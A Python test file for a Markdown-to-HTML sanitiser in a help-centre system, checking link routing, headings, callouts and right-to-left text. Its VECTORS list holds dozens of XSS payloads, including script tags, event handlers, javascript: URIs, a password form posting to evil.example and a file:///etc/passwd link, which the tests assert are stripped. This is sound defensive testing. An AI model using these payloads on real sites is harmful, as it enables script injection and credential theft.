"""Markdown made into HTML: what it may say, what it may never do, and where it leads."""

import re
from html.parser import HTMLParser
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from inbox.knowledge.markup import Heading, Markup, Places

MARKUP = Markup()
PLACES = Places(
    lambda slug: f"/help/en/{quote(slug)}" if slug != "gone" else None,
    lambda name: f"/help/files/refunds/{quote(name)}" if name != "gone.png" else None,
    {"note": "Note", "warning": "Warning"},
)
WRITTEN = "p h2 h3 h4 h5 h6 ul ol li blockquote pre code em strong s a img table thead tbody tr th td hr br div"
TAGS = frozenset(WRITTEN.split())
VECTORS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=//evil.example><input name=password></form>",
    "<style>@import url(//evil.example)</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div class='callout' id=page hx-get=/account>x</div>",
    "<details open ontoggle=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](/account)",
    "[x](file:///etc/passwd)",
    '[x](article:a" onclick="alert(1))',
    '[x](article:a#"><script>alert(1)</script>)',
    '[x](files/a"onclick=alert(1))',
    '[x](https://ok.example/"onmouseover=alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](data:image/png;base64,AAAA)",
    "![x](/c/K7Q2/a/1)",
    "![x](files/../../account)",
    '!["onerror="alert(1)](files/a.png)',
    '![x](files/a.png "title\\" onerror=alert(1)")',
    "<javascript:alert(1)>",
    "<https://ok.example/<script>>",
    "`<script>alert(1)</script>`",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "::: note <img src=x onerror=alert(1)>\nx\n:::",
    '::: warning " onclick=alert(1)\nx\n:::',
    "# <img src=x onerror=alert(1)>",
    '# " onclick=alert(1) "',
    "|<script>|\n|-|\n|<img onerror=alert(1)>|",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
)


class Seen(HTMLParser):
    """Every tag that a browser would see, with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """One of them."""
        self.tags.append((tag, dict(attrs)))


def html(body: str) -> str:
    return MARKUP.html(body, PLACES).html


def harmless(made: str) -> None:
    for tag, attributes in Seen(made).tags:
        assert tag in TAGS, tag
        assert set(attributes) <= {
            "dir",
            "id",
            "href",
            "rel",
            "src",
            "alt",
            "title",
            "loading",
            "start",
            "role",
            "class",
            "tabindex",
        }
        href, src = attributes.get("href") or "#", attributes.get("src") or "/help/files/"
        assert re.match(r"#|/help/(en|files/refunds)/|(https?://|mailto:|tel:)\w", href), href
        assert src.startswith("/help/files/"), src
        assert "/../" not in src
        assert attributes.get("id", "s-").startswith("s-")  # type: ignore[union-attr]  # an id without a value would be None, and fails here
        assert set((attributes.get("class") or "scrolls").split()) <= {
            "scrolls",
            "callout",
            "callout-note",
            "callout-warning",
            "callout-title",
        }


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_that_runs_or_loads_from_elsewhere_comes_through(vector: str) -> None:
    harmless(html(vector))
    harmless(html(f"- a\n  > {vector}\n\n::: note\n{vector}\n:::\n"))


@given(
    st.lists(
        st.one_of(
            st.sampled_from([*VECTORS, "::: note", ":::", "\n\n", "- ", "> ", "|", "|-|", "[", "](", "`"]), st.text()
        )
    ).map("".join)
)
def test_no_mixture_of_them_does_either(body: str) -> None:
    harmless(html(body))


def test_links_lead_to_articles_files_and_other_sites() -> None:
    made = html(
        "[a](article:بازگشت#s-x) [b](files/form.pdf) [c](https://ok.example/?a=1&b=2) [d](mailto:a@ok.example) [e](#s-x)"
    )
    assert f'href="/help/en/{quote("بازگشت")}#s-x"' in made
    assert 'href="/help/files/refunds/form.pdf"' in made
    assert '<a href="https://ok.example/?a=1&amp;b=2" rel="noopener noreferrer">c</a>' in made
    assert 'href="mailto:a@ok.example"' in made
    assert 'href="#s-x"' in made


def test_what_leads_nowhere_keeps_its_words() -> None:
    made = html("See [this](article:gone) and ![a picture](files/gone.png) and ![theirs](https://x.example/y.png).")
    assert "href" not in made
    assert "<img" not in made
    assert re.sub(r"<[^>]+>", "", made).strip() == "See this and a picture and theirs."


def test_headings_stand_below_the_title_and_keep_their_names() -> None:
    made = MARKUP.html("# How *long*\n\n## How long\n\n###### چقدر می‌شود\n", PLACES)
    assert made.headings == (
        Heading(2, "s-how-long", "How long"),
        Heading(3, "s-how-long-2", "How long"),
        Heading(6, "s-چقدر-می-شود", "چقدر می‌شود"),
    )
    assert '<h2 id="s-how-long" dir="auto">' in made.html
    assert "<h1" not in made.html


def test_notes_and_warnings_are_set_off_under_their_names() -> None:
    made = html("::: note\nOne\n:::\n\n::: warning Mind the step\nTwo\n:::\n")
    assert 'class="callout callout-note"' in made
    assert ">Note</p>" in made
    assert 'class="callout callout-warning"' in made
    assert ">Mind the step</p>" in made
    assert "::: note" in MARKUP.html("::: other\nx\n:::", PLACES).html or ":::" in html("::: other\nx\n:::")


def test_passages_run_as_their_words_do_and_code_from_the_left() -> None:
    made = html("سلام\n\n- one\n\n> two\n\n    x = 1\n\n| a |\n|---|\n| ب |\n")
    for tag in ("p", "th", "td"):
        assert f'<{tag} dir="auto">' in made
    assert '<ul dir="ltr">' in made
    assert '<blockquote dir="ltr">' in made
    assert '<ul dir="rtl">' in html("- **سلام** به همه\n- two\n")
    assert '<p><img src="/help' in html("![سلام](files/a.png)"), "what has no words runs as the article"
    assert '<pre dir="ltr"><code>x = 1' in made
    assert '<div class="scrolls" tabindex="0"><table>' in made


def test_lists_are_numbered_in_persian_digits_too() -> None:
    made = html("۱. یک\n۲. دو\n\n> ۳. سه\n\n```\n۱. code\n```\n")
    assert made.count("<ol") == 2
    assert '<ol start="3" dir="rtl">' in made
    assert "<code>۱. code" in made


def test_plain_words_are_what_is_read() -> None:
    body = "# Title\n\nSome *words* and [a link](article:x).\n\n::: note Hint\nx\n:::\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\ncode()\n```\n"
    assert " ".join(MARKUP.plain(body).split()) == "Title Some words and a link. Hint x a b 1 2 code()"


def test_what_a_body_leads_to_is_known() -> None:
    found = MARKUP.mentioned(
        "[a](article:بازگشت#x) ![b](files/b.png) [c](article:two) [d](files/b.png) [e](https://x.example)"
    )
    assert (found.articles, found.files) == (("بازگشت", "two"), ("b.png",))


@pytest.mark.parametrize(
    "pattern", ["[", "![[", "*a ", "> ", "- ", "`", "<", "\\", "_a__b", "[a](b", "::: note\n", "|a"]
)
def test_what_is_deep_or_repeats_ends(pattern: str) -> None:
    body = (pattern * 20_000)[:20_000]
    harmless(html(body))
